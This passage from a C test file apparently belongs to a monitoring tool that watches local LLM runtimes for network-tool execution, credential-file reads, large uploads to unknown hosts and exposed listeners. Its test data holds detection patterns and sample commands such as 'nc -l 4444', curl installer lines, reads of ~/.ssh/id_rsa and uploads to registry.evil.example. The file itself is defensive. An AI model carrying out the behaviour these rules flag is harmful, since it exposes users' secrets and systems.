		memset(&ev, 0, sizeof(ev));
		ev.type = LW_REC_EXEC;
		ev.tool = "koboldcpp";
		ev.exe = ev.filename = "/usr/bin/curl";
		set_argv(&ev, kdl, NULL, true);
		CHECK_STR(rt_ids(pack, &ev), "exec-network-tool");
	}
	/* ... nor the same command line under another tool, nor another program */
	CHECK_STR(ex_in("jan", "/usr/bin/curl", kdl, NULL), "exec-network-tool");
	CHECK_STR(ex_in("koboldcpp", "/usr/bin/wget", "wget https://x -O m.gguf", NULL),
		  "exec-network-tool");

	/* ollama launch's installers: curl in a tree rooted at `ollama launch` */
	CHECK_STR(ex_in("ollama", "/usr/bin/curl", "curl -fsSL https://opencode.ai/install",
			launch),
		  "");
	CHECK_STR(ex_in("ollama", "/usr/bin/curl", "curl -fsSL https://opencode.ai/install",
			"ollama launch"),
		  "");
	/* ... not curl run by ollama serve (or its agent harness), nor an unknown root */
	CHECK_STR(ex_in("ollama", "/usr/bin/curl", "curl -fsSL https://opencode.ai/install",
			"/usr/local/bin/ollama serve"),
		  "exec-network-tool");
	CHECK_STR(ex_in("ollama", "/usr/bin/curl", "curl -fsSL https://opencode.ai/install", NULL),
		  "exec-network-tool");
	CHECK_STR(ex_in("ollama", "/usr/bin/curl", "curl x", "/usr/local/bin/ollama launcher"),
		  "exec-network-tool");
	CHECK_STR(ex_in("ollama", "/usr/bin/nc", "nc -l 4444", launch), "exec-network-tool");
	CHECK_STR(ex("jan", "/usr/bin/curl"), "exec-network-tool");
	CHECK_STR(ex("localai", "/usr/bin/curl"), "exec-network-tool");
	/* ... and where they connect: the installer hosts only from ollama launch */
	CHECK_STR(conn_in("ollama", "opencode.ai", launch), "ollama-launch-installer");
	CHECK_STR(conn_in("ollama", "registry.npmjs.org", "ollama launch"),
		  "ollama-launch-installer");
	CHECK_STR(conn_in("ollama", "opencode.ai", "/usr/local/bin/ollama serve"),
		  "egress-unknown");
	CHECK_STR(conn_in("ollama", "opencode.ai", NULL), "egress-unknown");

	/* ollama run attaching an image or a recording named in the prompt */
	CHECK_STR(op_in("ollama", "/home/alice/Documents/cat.png", 3, "/usr/local/bin/ollama", orun,
			orun),
		  "");
	CHECK_STR(op_in("ollama", "/home/alice/Desktop/shots/IMG_0001.JPG", 3,
			"/usr/local/bin/ollama", "/usr/local/bin/ollama run llava", NULL),
		  "");
	CHECK_STR(op_in("ollama", "/home/alice/Documents/a.jpeg", 3, "", orun, NULL), "");
	CHECK_STR(op_in("ollama", "/home/alice/Documents/a.webp", 3, "", orun, NULL), "");
	CHECK_STR(op_in("ollama", "/home/alice/Documents/memo.wav", 3, "", orun, NULL), "");
	/* ... the server opens none (images come over its API) */
	CHECK_STR(op_in("ollama", "/home/alice/Documents/cat.png", 3, "/usr/local/bin/ollama",
			"/usr/local/bin/ollama serve", NULL),
		  "file-user-documents");
	CHECK_STR(op("ollama", 1000, "/home/alice/Documents/cat.png", O_RDONLY, 3),
		  "file-user-documents");
	/* other documents still count, and other tools opening images too */
	CHECK_STR(op("ollama", 1000, "/home/alice/Documents/taxes.pdf", O_RDONLY, 3),
		  "file-user-documents");
	CHECK_STR(op("ollama", 1000, "/home/alice/Documents/cat.png.txt", O_RDONLY, 3),
		  "file-user-documents");
	CHECK_STR(op("koboldcpp", 1000, "/home/alice/Documents/cat.png", O_RDONLY, 3),
		  "file-user-documents");

	/* LocalAI's backend installs read ~/.docker/config.json (or fail to: no file) */
	CHECK_STR(op_in("localai", "/home/alice/.docker/config.json", 3, "/usr/local/bin/local-ai",
			"local-ai run", NULL),
		  "");
	CHECK_STR(op_in("localai", "/home/alice/.docker/config.json", -ENOENT, "/usr/bin/localai",
			NULL, NULL),
		  "");
	/* ... in the local-ai process itself: a backend it runs, or an unknown exe, alerts */
	CHECK_STR(op_in("localai", "/home/alice/.docker/config.json", 3, "/usr/bin/python3",
			"python3 backend.py --addr 127.0.0.1:40123", NULL),
		  "file-credentials");
	CHECK_STR(op_in("localai", "/home/alice/.docker/config.json", 3, "", NULL, NULL),
		  "file-credentials");
	CHECK_STR(op_in("localai", "/home/alice/.docker/config.json", -ENOENT, "/usr/bin/python3",
			NULL, NULL),
		  "file-sensitive-attempt");
	CHECK_STR(op_in("ollama", "/home/alice/.docker/config.json", 3, "/usr/local/bin/local-ai",
			NULL, NULL),
		  "file-credentials");
	CHECK_STR(op_in("localai", "/home/alice/.ssh/id_rsa", 3, "/usr/local/bin/local-ai", NULL,
			NULL),
		  "file-credentials");
	/* ollama launch's npm reads ~/.npmrc */
	CHECK_STR(op_in("ollama", "/home/alice/.npmrc", 3, "/usr/bin/node",
			"npm install -g opencode-ai", launch),
		  "");
	CHECK_STR(op_in("ollama", "/home/alice/.npmrc", -ENOENT, "/usr/bin/node", NULL, launch),
		  "");
	/* ... only there: ollama serve reading it alerts */
	CHECK_STR(op_in("ollama", "/home/alice/.npmrc", 3, "/usr/local/bin/ollama",
			"/usr/local/bin/ollama serve", "/usr/local/bin/ollama serve"),
		  "file-credentials");
	CHECK_STR(op_in("ollama", "/home/alice/.npmrc", -ENOENT, "", NULL, NULL),
		  "file-sensitive-attempt");
	CHECK_STR(op("localai", 1000, "/home/alice/.npmrc", O_RDONLY, 3), "file-credentials");

	/* LocalAI installs and GitHub release redirects are explained */
	CHECK_STR(conn("localai",
		       "docker-images-prod.6aa30f8b08e16409b46e0173d6de2f56"
		       ".r2.cloudflarestorage.com",
		       pub, 443),
		  "download-localai-backends");
	CHECK_STR(conn("jan", "release-assets.githubusercontent.com", pub, 443),
		  "download-jan-catalog");
	CHECK_STR(conn("jan", "objects.githubusercontent.com", pub, 443), "download-jan-catalog");
	CHECK_STR(conn("koboldcpp", "release-assets.githubusercontent.com", pub, 443),
		  "download-github-releases");

	/* ollama push to the official registry is recorded, not raised; elsewhere it is */
	CHECK_STR(sent("ollama", "registry.ollama.ai", "sni", 3ull << 30),
		  "upload-ollama-registry");
	CHECK_STR(sent("ollama", "dd20bb891979d25aebc8bec07b2b3bbc.r2.cloudflarestorage.com", "sni",
		       200u << 20),
		  "upload-ollama-registry");
	CHECK_STR(sent("ollama", "registry.evil.example", "sni", 200u << 20),
		  "egress-large-upload");
	CHECK_STR(sent("ollama", "0123456789abcdef.r2.cloudflarestorage.com", "sni", 200u << 20),
		  "egress-large-upload");
	CHECK_STR(sent("jan", "registry.ollama.ai", "sni", 200u << 20), "egress-large-upload");
	CHECK_STR(sent("ollama", NULL, "none", 200u << 20), "egress-large-upload");
	/* a name that is only llmwatch's own guess (--resolve-rule-hosts) excuses nothing */
	CHECK_STR(sent("ollama", "registry.ollama.ai", "rule", 200u << 20),
		  "egress-large-upload,upload-ollama-registry");
	CHECK_STR(sent("ollama", "registry.ollama.ai", "sni", 1u << 20), "");
	{
		struct lw_sockaddr sa = rt_addr(pub, 443);
		struct lw_event ev = rt_net(LW_REC_CONN_BYTES, "ollama", "registry.ollama.ai", &sa);
		struct rules_verdict v[4];

		ev.host_source = "sni";
		ev.bytes = 3ull << 30;
		CHECK_INT(rules_match(pack, &ev, v, 4), 1);
		CHECK_INT(v[0].action, RULES_ACTION_LOG);
		CHECK_STR(v[0].message,
			  "ollama (pid 4121) sent 3.0 GiB to registry.ollama.ai:443 "
			  "(104.16.1.1): ollama push to the official Ollama registry");
	}
}

/* Issue 13: a listener in a container's own network namespace is not the host's exposure. */
static void test_exposure_netns(void)
{
	static const struct {
		const char *tool, *ip;
		uint16_t port;
		const char *host_rule;
	} cases[] = {
		{ "ollama", "0.0.0.0", 11434, "exposure-ollama" },
		{ "lm-studio", "::", 1234, "exposure-lm-studio" },
		{ "gpt4all", "0.0.0.0", 4891, "exposure-gpt4all" },
		{ "jan", "0.0.0.0", 1337, "exposure-jan" },
		{ "llama-server", "0.0.0.0", 8080, "exposure-port-8080" },
		{ "localai", "0.0.0.0", 8080, "exposure-localai" },
		{ "koboldcpp", "0.0.0.0", 5001, "exposure-koboldcpp" },
		{ "vllm", "0.0.0.0", 8000, "exposure-vllm" },
		{ "vllm", "10.0.0.5", 9999, "exposure-listen" },
		{ "text-generation-webui", "0.0.0.0", 7860, "exposure-gradio" },
		{ "text-generation-webui", "0.0.0.0", 5000, "exposure-text-generation-webui-api" },
		{ "open-webui", "0.0.0.0", 8080, "exposure-port-8080" },
	};
	int sev;

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		CHECK_STR(listen_in(cases[i].tool, cases[i].ip, cases[i].port, EVENT_NETNS_HOST,
				    &sev),
			  cases[i].host_rule);
		CHECK(sev >= RULES_SEV_MEDIUM);
		/* a namespace that could not be read counts as the host's */
		CHECK_STR(listen_in(cases[i].tool, cases[i].ip, cases[i].port, EVENT_NETNS_UNKNOWN,
				    &sev),
			  cases[i].host_rule);
		CHECK_STR(listen_in(cases[i].tool, cases[i].ip, cases[i].port, EVENT_NETNS_OTHER,
				    &sev),
			  "exposure-other-netns");
		CHECK_INT(sev, RULES_SEV_LOW);
	}
	/* loopback stays quiet in any namespace */
	CHECK_STR(listen_in("ollama", "127.0.0.1", 11434, EVENT_NETNS_OTHER, &sev), "");
	{
		struct lw_sockaddr sa = rt_addr("0.0.0.0", 11434);
		struct lw_event ev = rt_net(LW_REC_LISTEN, "ollama", NULL, &sa);

		ev.netns = EVENT_NETNS_OTHER;
		CHECK_HAS(rt_msg(pack, &ev), "only through a published port", true);
	}
	CHECK_HAS(desc("exposure-other-netns"), "published port", true);
}

/* Issue 13 item 2: the rules of the new profiles (Open WebUI, AnythingLLM, text-generation-webui) */
static void test_new_profiles(void)
{
	const char *pub = "104.16.1.1";
	const char *m;

	/* AnythingLLM's PostHog: its own rule, with the switch that turns it off */
	CHECK_STR(conn("anythingllm", "us.i.posthog.com", pub, 443),
		  "telemetry-anythingllm-posthog");
	CHECK_STR(conn("anythingllm", "app.posthog.com", pub, 443),
		  "telemetry-anythingllm-posthog");
	CHECK_HAS(conn_msg("anythingllm", "us.i.posthog.com", pub, 443),
		  "DISABLE_TELEMETRY=\"true\"", true);
	CHECK_HAS(desc("telemetry-anythingllm-posthog"), "server/models/telemetry.js @064b0b8e",
		  true);
	/* Open WebUI's Chroma telemetry and its version check, each with its setting */
	CHECK_STR(conn("open-webui", "us.i.posthog.com", pub, 443), "telemetry-chroma-posthog");
	CHECK_HAS(conn_msg("open-webui", "us.i.posthog.com", pub, 443),
		  "ANONYMIZED_TELEMETRY=false", true);
	CHECK_STR(conn("open-webui", "api.github.com", pub, 443), "open-webui-version-check");
	CHECK_HAS(conn_msg("open-webui", "api.github.com", pub, 443),
		  "ENABLE_VERSION_UPDATE_CHECK=false", true);
	/* the generic PostHog rule stays for the others, and api.github.com is not Open WebUI's */
	CHECK_STR(conn("jan", "us.i.posthog.com", pub, 443), "telemetry-posthog");
	CHECK_STR(conn("localai", "api.github.com", pub, 443), "localai-update-check");
	CHECK_STR(conn("vllm", "api.github.com", pub, 443), "egress-unknown");

	/* Open WebUI binds all interfaces on 8080 by default */
	CHECK_STR(net(LW_REC_LISTEN, "open-webui", NULL, "0.0.0.0", 8080), "exposure-port-8080");
	CHECK_STR(net(LW_REC_LISTEN, "open-webui", NULL, "127.0.0.1", 8080), "");

	/* text-generation-webui: Gradio 7860 and API 5000 with --listen, loopback without */
	CHECK_STR(net(LW_REC_LISTEN, "text-generation-webui", NULL, "0.0.0.0", 7860),
		  "exposure-gradio");
	CHECK_STR(net(LW_REC_LISTEN, "text-generation-webui", NULL, "127.0.0.1", 7860), "");
	CHECK_STR(net(LW_REC_LISTEN, "text-generation-webui", NULL, "0.0.0.0", 5000),
		  "exposure-text-generation-webui-api");
	CHECK_STR(net(LW_REC_LISTEN, "text-generation-webui", NULL, "::", 5000),
		  "exposure-text-generation-webui-api");
	CHECK_STR(net(LW_REC_LISTEN, "text-generation-webui", NULL, "127.0.0.1", 5000), "");
	/* port 5000 is text-generation-webui's only for it; others fall back */
	CHECK_STR(net(LW_REC_LISTEN, "vllm", NULL, "0.0.0.0", 5000), "exposure-listen");
	m = desc("exposure-text-generation-webui-api");
	CHECK_HAS(m, "modules/api/script.py @1dcde41d L562-568", true);
	CHECK_HAS(desc("exposure-gradio"), "server.py @1dcde41d L238", true);

	/* --share: Gradio's share service and its frpc tunnel; --public-api: cloudflared */
	CHECK_STR(conn("text-generation-webui", "abcdef.gradio.live", pub, 443),
		  "exposure-gradio-share");
	CHECK_STR(conn("text-generation-webui", "api.gradio.app", pub, 443), "gradio-api");
	CHECK_STR(ex("text-generation-webui",
		     "/home/u/.cache/huggingface/gradio/frpc/frpc_linux_amd64_v0.3"),
		  "exposure-gradio-share-tunnel");
	CHECK_STR(ex("text-generation-webui", "/tmp/cloudflared-linux-amd64"),
		  "exposure-cloudflare-tunnel");
	CHECK_HAS(desc("exposure-cloudflare-tunnel"), "--public-api", true);
	CHECK_HAS(conn_msg("text-generation-webui", "api.trycloudflare.com", pub, 443),
		  "text-generation-webui: by --public-api", true);
	/* ordinary use stays quiet: the UI and API on loopback, a local model load */
	CHECK_STR(net(LW_REC_CONNECT, "text-generation-webui", NULL, "127.0.0.1", 5000), "");
}

int main(void)
{
	test_loads();
	if (pack) {
		test_telemetry();
		test_downloads_dns_egress();
		test_files();
		test_exposure();
		test_tools_today();
		test_tools_today_missing();
		test_tools_today_quiet();
		test_exposure_netns();
		test_new_profiles();
	}
	rules_free(pack);
	return check_summary("test_rules_pack");
}
